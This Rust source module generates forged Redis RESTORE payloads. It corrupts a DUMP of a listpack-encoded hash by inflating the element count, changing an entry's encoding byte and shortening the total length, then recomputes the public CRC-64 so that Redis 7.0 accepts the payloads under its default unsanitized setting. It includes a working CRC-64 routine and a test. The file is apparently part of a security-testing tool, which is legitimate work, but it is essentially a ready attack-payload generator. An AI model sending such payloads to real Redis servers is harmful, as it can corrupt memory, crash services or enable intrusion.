//! `RESTORE` payloads an attacker can forge: a `DUMP` of its own small hash with the listpack altered and the
//! checksum made right again (the CRC-64 Redis uses is public), which Redis 7.0 accepts as it is under its
//! default `sanitize-dump-payload no`, and then trusts when it reads the value.

/// RDB type byte of a hash in a listpack (`RDB_TYPE_HASH_LISTPACK`).
const HASH_LISTPACK: u8 = 16;

/// Forged variants of `dump` (a `DUMP` of a small listpack-encoded hash): the element count raised, an entry's
/// encoding byte changed, the listpack's total length shortened. Empty when `dump` is not such a hash.
pub(crate) fn forged_hash_payloads(dump: &[u8]) -> Vec<Vec<u8>> {
    // type, 1-byte string length (< 64), listpack: total bytes (u32), element count (u16), entries..., then
    // 2 bytes of RDB version and 8 of CRC-64, both little-endian.
    if dump.len() < 2 + 6 + 10 || dump[0] != HASH_LISTPACK || dump[1] >= 64 {
        return Vec::new();
    }
    let body = &dump[..dump.len() - 8];
    let mut forged = Vec::new();
    let mut count = body.to_vec();
    count[6] = count[6].wrapping_add(2);
    forged.push(count);
    let mut encoding = body.to_vec();
    encoding[8] = 0xf0; // the first entry's encoding byte: a 24-bit integer where a string was
    forged.push(encoding);
    let mut total = body.to_vec();
    total[2] = total[2].wrapping_sub(3);
    forged.push(total);
    for payload in &mut forged {
        let crc = crc64(payload);
        payload.extend_from_slice(&crc.to_le_bytes());
    }
    forged
}

/// Redis' CRC-64 (Jones polynomial, reflected, initial value 0), as `DUMP` appends it.
fn crc64(data: &[u8]) -> u64 {
    const POLY: u64 = 0x95ac_9329_ac4b_c9b5; // 0xad93d23594c935a9 reflected
    let mut crc = 0u64;
    for &byte in data {
        crc ^= u64::from(byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ POLY
            } else {
                crc >> 1
            };
        }
    }
    crc
}

#[cfg(test)]
mod tests {
    use super::crc64;

    #[test]
    fn crc64_is_redis_one() {
        // The check value of Redis' crc64.c self-test.
        assert_eq!(crc64(b"123456789"), 0xe9c6_d914_c4b8_d9ca);
    }
}
